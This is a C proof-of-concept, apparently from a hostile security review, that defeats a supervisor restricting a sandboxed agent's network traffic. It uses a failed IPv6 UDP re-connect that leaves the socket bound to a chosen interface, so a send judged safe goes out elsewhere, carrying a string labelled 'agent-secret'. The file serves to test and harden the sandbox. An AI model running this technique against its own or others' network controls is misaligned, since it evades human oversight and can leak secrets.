/* ha14-reconnect: hostile review h-attack14. A connected UDP socket keeps
 * its peer when a re-connect fails, but not its device: connect() of an
 * IPv6 socket connected to the declared ::ffff:a.b.c.d, to the declared
 * link-local fe80::1%IFNAME, writes IFNAME into sk_bound_dev_if
 * (__ip6_datagram_connect) and then fails EAFNOSUPPORT (the socket's
 * source is v4-mapped: ip6_datagram_dst_update) and puts back the old peer
 * (daddr, dport: "Restore the socket peer info"), the state stays
 * ESTABLISHED, the device is not put back. The supervisor's read after the
 * connect accepts the device as the connect's own scope (c->scope_if), and
 * a later send() without a name is answered CONTINUE ("connected-peer"):
 * the datagram goes to the declared IPv4 address out of IFNAME, taken for
 * on-link there (ha12-oif), to whoever answers ARP for it.
 *
 *   ha14-reconnect MODE DEST:PORT IFNAME
 *     send      connect(::ffff:DEST), connect(fe80::1%IFNAME) (fails),
 *               send()
 *     write     the same with write()
 *     sendmsg   the same with sendmsg() and no name (judged: held)
 *     mdns      as send, but the re-connect is to ff02::fb%IFNAME port 5353
 *               (a declared link-scope multicast address: mDNS; the run
 *               adds --allow [ff02::fb]:5353)
 *     plain     control: connect(::ffff:DEST), send()
 */
#include <arpa/inet.h>
#include <errno.h>
#include <net/if.h>
#include <netinet/in.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

int main(int argc, char **argv)
{
	struct sockaddr_in6 dst = {.sin6_family = AF_INET6}, ll = {.sin6_family = AF_INET6}, peer;
	socklen_t pl = sizeof(peer);
	char host[64], msg[80], dev[IFNAMSIZ + 1] = "", *colon, ps[64] = "?";
	socklen_t dl = sizeof(dev) - 1;
	const char *mode;
	long rc;
	int s;

	if (argc != 4) {
		fprintf(stderr, "usage: ha14-reconnect MODE DEST:PORT IFNAME\n");
		return 2;
	}
	mode = argv[1];
	snprintf(host, sizeof(host), "::ffff:%s", argv[2]);
	colon = strrchr(host, ':');
	*colon = '\0';
	dst.sin6_port = htons((unsigned short)atoi(colon + 1));
	if (inet_pton(AF_INET6, host, &dst.sin6_addr) != 1)
		return 2;
	inet_pton(AF_INET6, strcmp(mode, "mdns") == 0 ? "ff02::fb" : "fe80::1", &ll.sin6_addr);
	ll.sin6_port = strcmp(mode, "mdns") == 0 ? htons(5353) : dst.sin6_port;
	ll.sin6_scope_id = if_nametoindex(argv[3]);
	s = socket(AF_INET6, SOCK_DGRAM, 0);
	rc = connect(s, (struct sockaddr *)&dst, sizeof(dst));
	printf("agent: connect(%s) = %ld (%s)\n", host, rc, rc < 0 ? strerror(errno) : "ok");
	if (strcmp(mode, "plain") != 0) {
		rc = connect(s, (struct sockaddr *)&ll, sizeof(ll));
		printf("agent: connect(%s%%%s) = %ld (%s)\n",
		       strcmp(mode, "mdns") == 0 ? "ff02::fb" : "fe80::1", argv[3], rc,
		       rc < 0 ? strerror(errno) : "ok");
	}
	getsockopt(s, SOL_SOCKET, SO_BINDTODEVICE, dev, &dl);
	if (getpeername(s, (struct sockaddr *)&peer, &pl) == 0)
		inet_ntop(AF_INET6, &peer.sin6_addr, ps, sizeof(ps));
	printf("agent: socket now bound to device '%s', peer %s\n", dev, ps);
	snprintf(msg, sizeof(msg), "agent-secret via reconnect-%s", mode);
	if (strcmp(mode, "write") == 0) {
		rc = write(s, msg, strlen(msg));
	} else if (strcmp(mode, "sendmsg") == 0) {
		struct iovec iov = {.iov_base = msg, .iov_len = strlen(msg)};
		struct msghdr mh = {.msg_iov = &iov, .msg_iovlen = 1};

		rc = sendmsg(s, &mh, 0);
	} else {
		rc = send(s, msg, strlen(msg), 0);
	}
	printf("agent: %s = %ld (%s)\n", mode, rc, rc < 0 ? strerror(errno) : "ok");
	usleep(300 * 1000);
	return 0;
}
